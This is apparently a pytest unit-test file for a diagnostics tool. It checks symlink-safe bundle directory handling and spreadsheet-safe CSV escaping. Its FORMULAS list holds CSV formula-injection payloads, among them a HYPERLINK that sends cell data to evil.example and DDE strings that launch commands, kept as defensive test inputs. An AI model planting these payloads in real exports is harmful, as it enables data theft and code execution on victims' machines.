"""Bundle I/O through directory descriptors (bundle/safedir.py), and spreadsheet-safe CSV
(issue 17, findings 1, 2 and 7), on hand-made directories.

The end-to-end versions, with a real capture and a real other user, are
tests/e2e/test_safety_paths.py and test_safety_output.py.
"""

from __future__ import annotations

import csv
import io
import os
import stat
import threading
import time
from types import SimpleNamespace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from diagnose.bundle.manifest import CSV_GUARDED, Manifest
from diagnose.bundle.reader import Bundle
from diagnose.bundle.safedir import SafeDir, UnsafeDirectory
from diagnose.bundle.writer import BundleWriter
from diagnose.collect.base import CaptureContext, CollectorStatus
from diagnose.collect.child import Child, anchored_fds
from diagnose.collect.proc_sampler import THREAD_COLUMNS
from diagnose.collect.pyspy import GilCollector, PySpyCollector, PythonTables
from diagnose.errors import BadBundle, OutputError
from diagnose.escape import csv_cell, csv_uncell
from diagnose.formats.stacks import Interval
from tests.conftest import FIXTURES, is_root
from tests.unit.fuzzing import fuzz

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


# -- creating the output directory ----------------------------------------------------------


def test_a_new_directory_is_private_whatever_the_umask(tmp_path):
    old = os.umask(0o777)  # even a umask that takes every bit
    try:
        d = SafeDir.create(tmp_path / "a" / "b")
    finally:
        os.umask(old)
    st_ = os.fstat(d.fd)
    assert stat.S_IMODE(st_.st_mode) == 0o700 and st_.st_uid == os.geteuid()


@pytest.mark.parametrize("case", ["mode 0770", "mode 0757", "not empty", "a symlink", "a file"])
def test_an_existing_path_that_is_not_an_empty_private_directory_is_refused(tmp_path, case):
    target = tmp_path / "out"
    real = tmp_path / "real"
    real.mkdir(mode=0o700)
    if case.startswith("mode"):
        target.mkdir(mode=0o700)
        target.chmod(int(case.split()[1], 8))  # group or others may write
    elif case == "not empty":
        target.mkdir(mode=0o700)
        (target / "x").write_text("")
    elif case == "a symlink":
        target.symlink_to(real)
    else:
        target.write_text("")
    with pytest.raises(UnsafeDirectory) as info:
        SafeDir.create(target)
    assert "\n" not in str(info.value)
    with pytest.raises(OutputError):  # the writer: exit code 6, one line
        BundleWriter.create(target)
    assert stat.S_IMODE(real.stat().st_mode) == 0o700 and list(real.iterdir()) == []


@pytest.mark.parametrize("mode", [0o700, 0o755, 0o750, 0o500])
def test_an_empty_directory_only_we_may_write_is_used_and_made_private(tmp_path, mode):
    # GIVEN an empty directory of ours that no one else may write (a plain mkdir: 0755)
    (tmp_path / "out").mkdir()
    (tmp_path / "out").chmod(mode)
    # WHEN it is the output directory THEN it is used, and made 0700 like a new bundle
    d = SafeDir.create(tmp_path / "out")
    assert os.path.samestat(os.fstat(d.fd), (tmp_path / "out").stat())
    assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o700


def test_every_problem_of_an_output_directory_is_named_at_once(tmp_path):
    # GIVEN a directory that is both open to others and not empty
    (tmp_path / "out").mkdir()
    (tmp_path / "out").chmod(0o777)
    (tmp_path / "out" / "a").write_text("")
    (tmp_path / "out" / "b").write_text("")
    # WHEN it is the output directory THEN one line names both, and it is left as it was
    with pytest.raises(UnsafeDirectory) as info:
        SafeDir.create(tmp_path / "out")
    text = str(info.value)
    assert "others may write to it (mode 0777)" in text and "not empty (2 entries)" in text
    assert "\n" not in text
    assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o777


@pytest.mark.skipif(not is_root(), reason="needs root to chown")
def test_another_users_open_full_directory_gets_all_three_reasons(tmp_path):
    # GIVEN nobody's world-writable directory holding a file
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "planted").write_text("")
    (tmp_path / "out").chmod(0o777)
    os.chown(tmp_path / "out", 65534, 65534)
    # WHEN root is told to write there THEN every reason is given, in one OutputError line
    with pytest.raises(OutputError) as info:
        BundleWriter.create(tmp_path / "out")
    text = str(info.value)
    for reason in ("belongs to uid 65534", "others may write", "not empty (1 entry)"):
        assert reason in text, text
    assert "\n" not in text


@pytest.mark.skipif(not is_root(), reason="needs root to chown")
def test_a_directory_another_user_owns_is_refused(tmp_path):
    (tmp_path / "out").mkdir(mode=0o700)
    os.chown(tmp_path / "out", 65534, 65534)
    with pytest.raises(UnsafeDirectory, match="belongs to uid 65534"):
        SafeDir.create(tmp_path / "out")


def test_a_taken_default_name_gets_a_random_suffix(tmp_path):
    (tmp_path / "diagnose-1-x").symlink_to(tmp_path)
    d = SafeDir.create(tmp_path / "diagnose-1-x", fallback_suffix=True)
    assert d.display.name.startswith("diagnose-1-x-") and d.display.is_dir()
    assert (tmp_path / "diagnose-1-x").is_symlink()


# -- members --------------------------------------------------------------------------------


def test_members_are_reached_through_the_descriptor_after_the_path_moved(tmp_path):
    # GIVEN a bundle directory held open, then renamed and replaced by a link elsewhere
    w = BundleWriter.create(tmp_path / "b")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.rename(tmp_path / "b", tmp_path / "b.moved")
    (tmp_path / "b").symlink_to(elsewhere)
    # WHEN members are written (directly and by a helper given the anchored path)
    w.write_json("manifest.json", {"x": 1})
    with w.open_text("python/threads.csv") as fh:
        fh.write("tid,name\n")
    out = w.path("python/out.txt")
    child = Child(["sh", "-c", 'echo from-helper > "$1"', "sh", str(out)], w.path("python/x.err"))
    assert child.wait(10) == 0
    # THEN they are in the directory diagnose created, nothing is in the other one
    assert list(elsewhere.iterdir()) == []
    moved = tmp_path / "b.moved"
    assert (moved / "manifest.json").is_file() and (moved / "python" / "threads.csv").is_file()
    assert (moved / "python" / "out.txt").read_text() == "from-helper\n"
    assert w.read_text("python/out.txt") == "from-helper\n"


def test_writes_never_follow_a_link_at_the_member_or_its_temporary_name(tmp_path):
    victim = tmp_path / "victim"
    victim.write_text("precious\n")
    d = SafeDir.create(tmp_path / "b")
    os.symlink(victim, tmp_path / "b" / "report.md")
    os.symlink(victim, tmp_path / "b" / ".report.md.tmp")
    d.write_atomic("report.md", lambda fd: os.write(fd, b"report\n"))
    assert victim.read_text() == "precious\n"
    assert (tmp_path / "b" / "report.md").read_text() == "report\n"
    os.symlink(victim, tmp_path / "b" / "new.csv")
    with pytest.raises(FileExistsError):
        d.create_file("new.csv")
    assert victim.read_text() == "precious\n"


def test_reading_refuses_links_fifos_and_directories_without_blocking(tmp_path):
    root = tmp_path / "b"
    root.mkdir()
    (root / "manifest.json").write_text(Manifest("1").to_dict().__repr__())
    os.symlink("/etc/passwd", root / "link.csv")
    os.mkfifo(root / "fifo.csv")
    (root / "dir.csv").mkdir()
    (root / "sub").symlink_to(tmp_path)
    b = Bundle(root, Manifest("1"), SafeDir.open(root))
    t0 = time.monotonic()
    for rel, what in [
        ("link.csv", "symbolic link"),
        ("fifo.csv", "not a regular file"),
        ("dir.csv", "not a regular file"),
        ("sub/x.csv", "symbolic link"),
        ("../x.csv", "escapes the bundle"),
    ]:
        with pytest.raises(BadBundle, match=what):
            b.read_bytes(rel)
        assert not b.has(rel)
    assert time.monotonic() - t0 < 5  # the FIFO did not block


def test_member_directories_are_opened_once_from_many_threads(tmp_path):
    d = SafeDir.create(tmp_path / "b")
    fds = []
    threads = [
        threading.Thread(target=lambda: fds.append(d.subdir_fd(("python",), create=True)))
        for _ in range(16)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(set(fds)) == 1


def test_helpers_inherit_the_descriptors_their_arguments_name():
    assert anchored_fds(
        ["py-spy", "--output", "/proc/self/fd/7/x.json", "-o=/proc/self/fd/9/y"]
    ) == (7, 9)
    assert anchored_fds(["perf", "record", "-o", "/tmp/x"]) == ()
    # a member whose own name holds "=" (a sweep setting's directory) still counts
    assert anchored_fds(["/proc/self/fd/4/steps/THREADS=4/load", "--csv=/proc/self/fd/5/a=b"]) == (
        4,
        5,
    )


# -- spreadsheet-safe CSV (finding 7) --------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_guarded_and_comes_back_exact(text):
    cell = csv_cell(text)
    assert cell.startswith("'") and csv_uncell(cell) == text


@fuzz(300)
@given(st.one_of(st.text(max_size=30), st.integers(), st.floats(allow_nan=False)))
def test_the_guard_is_exact_and_leaves_nothing_a_spreadsheet_runs(value):
    cell = csv_cell(value)
    assert csv_uncell(cell) == value
    if isinstance(value, str):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    else:
        assert cell == value  # numbers are left alone


def _cells(text: str, column: str) -> list[str]:
    return [row[column] for row in csv.DictReader(io.StringIO(text))]


def test_thread_names_in_the_bundle_tables_are_spreadsheet_safe(tmp_path):
    # GIVEN thread names that are formulas, written by the Python and /proc collectors
    w = BundleWriter.create(tmp_path / "b")
    ctx = SimpleNamespace(writer=w, target=SimpleNamespace(pid=1, uid=0))
    tables = PythonTables(ctx)  # type: ignore[arg-type]
    names = {i + 1: name for i, name in enumerate(FORMULAS)}
    tables.add([Interval(tid, 0.0, 1.0, ("f (a.py:1)",)) for tid in names], names)
    tables.finish()
    with w.open_rows("proc/threads.csv", THREAD_COLUMNS) as rows:
        for tid, name in names.items():
            rows.writerow([0.1, tid, name[:15], "S", *[0] * (len(THREAD_COLUMNS) - 4)])
        rows.commit()
    w.write_manifest(Manifest("1", csv_text=CSV_GUARDED))
    # THEN no cell a spreadsheet opens starts a formula
    for rel, column in (("python/threads.csv", "name"), ("proc/threads.csv", "comm")):
        cells = _cells((tmp_path / "b" / rel).read_text(), column)
        assert len(cells) == len(FORMULAS)
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    # AND the reader gives the names back exactly
    b = Bundle.open(tmp_path / "b")
    got = b.table("python/threads.csv", ["tid"], {"tid": "int"})
    assert dict(zip(got["tid"], got["name"], strict=True)) == names
    comms = b.table("proc/threads.csv", ["tid"], {"tid": "int"})
    assert list(comms["comm"]) == [n[:15] for n in names.values()]


@pytest.mark.parametrize(
    ("text", "want"),
    [
        ("name,tid\n'=1,2\n", "=1"),  # the first cell of a row
        ('name,tid\n"\'=a,b",2\n', "=a,b"),  # quoted (it holds a separator)
        ("tid,name\n3,'@x\n", "@x"),  # not the first cell
        ("tid,name\n3,it's\n", "it's"),  # a quote inside a name is the name's own
    ],
)
def test_a_guarded_cell_is_found_wherever_it_sits(tmp_path, text, want):
    root = tmp_path / "b"
    root.mkdir()
    (root / "t.csv").write_text(text)
    b = Bundle(root, Manifest("1", csv_text=CSV_GUARDED), SafeDir.open(root))
    assert b.table("t.csv", [])["name"].tolist() == [want]


def test_tables_of_bundles_written_before_the_guard_are_read_as_they_are(tmp_path):
    # a bundle that does not declare the guard: a leading ' is the name's own
    root = tmp_path / "b"
    root.mkdir()
    (root / "t.csv").write_text("tid,name\n1,'quoted\n")
    b = Bundle(root, Manifest("1"), SafeDir.open(root))
    assert b.table("t.csv", ["tid"])["name"].tolist() == ["'quoted"]


def test_raw_py_spy_chunks_go_once_their_intervals_are_in_the_tables(tmp_path):
    # GIVEN two chunks py-spy wrote: one a real chrometrace, one cut short (unreadable)
    w = BundleWriter.create(tmp_path / "b")
    raw = (FIXTURES / "bundles" / "lock_contention" / "python" / "trace-000.json").read_bytes()
    w.write_bytes("python/trace-000.json", raw)
    w.write_bytes("python/trace-001.json", raw[: len(raw) // 2])
    said = "py-spy> Wrote chrome trace. Samples: 100 Errors: 0"
    col = PySpyCollector()
    col.binary = "py-spy"
    col.runner = SimpleNamespace(  # type: ignore[assignment]
        chunks=[
            ("python/trace-000.json", 0.0, 4.0, 0, said),
            ("python/trace-001.json", 4.0, 8.0, 0, said),
        ],
        join=lambda timeout: None,
    )
    stop = threading.Event()
    ctx = SimpleNamespace(
        writer=w,
        target=SimpleNamespace(pid=1, uid=0),
        options=SimpleNamespace(native=False, nonblocking=True, rate=100),
        target_exited=threading.Event(),
        stop_event=stop,
        window=lambda: 8.0,
        plan=None,
    )
    rec = col.finish(ctx, timeout=1)  # type: ignore[arg-type]
    # THEN the converted chunk is gone (its intervals are in the tables), the other stays
    assert not w.is_file("python/trace-000.json")
    assert w.is_file("python/trace-001.json")
    assert rec.status is CollectorStatus.PARTIAL and "trace-001.json" in rec.reason
    assert "python/trace-001.json" in rec.files and "python/trace-000.json" not in rec.files
    iv = w.read_text("python/intervals.csv").splitlines()
    assert len(iv) > 100 and iv[0] == "tid,start,end,stack_id"


def finishing(w: BundleWriter, window: float) -> CaptureContext:
    """What a collector's ``finish`` reads of a capture context, around ``w``."""
    ctx = SimpleNamespace(
        writer=w,
        target=SimpleNamespace(pid=1, uid=0),
        options=SimpleNamespace(rate=100),
        target_exited=threading.Event(),
        window=lambda: window,
        plan=None,
    )
    return ctx  # type: ignore[return-value]


def test_gil_chunks_go_once_merged(tmp_path):
    w = BundleWriter.create(tmp_path / "b")
    raw = (FIXTURES / "bundles" / "lock_contention" / "python" / "gil-000.folded").read_bytes()
    w.write_bytes("python/gil-000.folded", raw)
    col = GilCollector()
    col.binary = "py-spy"
    said = "py-spy> Wrote flamegraph data. Samples: 50 Errors: 0"
    col.runner = SimpleNamespace(  # type: ignore[assignment]
        chunks=[("python/gil-000.folded", 0.0, 4.0, 0, said)], join=lambda timeout: None
    )
    rec = col.finish(finishing(w, 4.0), timeout=1)
    assert rec.status is CollectorStatus.OK, rec.reason
    assert rec.files == ["python/gil.folded", "python/gil.json"]
    assert not w.is_file("python/gil-000.folded")
    assert w.read_text("python/gil.folded").strip()  # the samples moved, not lost


def test_gil_chunks_after_the_budget_lowered_the_rate_count_for_the_time_they_cover(tmp_path):
    # 2 s at 100 Hz: thread A held the GIL in 100 samples; then 8 s at 20 Hz, thread B in 80
    # (the 400 the first rate would have taken): B held it 80% of the time, not 44% of the
    # samples
    w = BundleWriter.create(tmp_path / "b")
    w.write_text("python/gil-000.folded", "thread (11): A;f (a.py:1) 100\n")
    w.write_text("python/gil-001.folded", "thread (12): B;g (b.py:1) 80\n")
    col = GilCollector()
    col.binary = "py-spy"
    col.rate = 20
    col.rates = [(0.0, 100), (2.2, 20)]
    said = "py-spy> Wrote flamegraph data. Samples: {} Errors: 0"
    col.runner = SimpleNamespace(  # type: ignore[assignment]
        chunks=[
            ("python/gil-000.folded", 0.0, 2.2, 0, said.format(200)),
            ("python/gil-001.folded", 2.2, 10.0, 0, said.format(160)),
        ],
        join=lambda timeout: None,
    )
    rec = col.finish(finishing(w, 10.0), timeout=1)
    assert rec.status is CollectorStatus.OK, rec.reason
    assert rec.details["samples"] == 360  # py-spy's own count
    assert rec.details["rate_hz"] == 20 and rec.details["rates_hz"] == [[0.0, 100], [2.2, 20]]
    counts = {line.rsplit(" ", 1)[0].split(";")[-1]: int(line.rsplit(" ", 1)[1])
              for line in w.read_text("python/gil.folded").splitlines()}  # fmt: skip
    assert counts == {"f (a.py:1)": 100, "g (b.py:1)": 400}
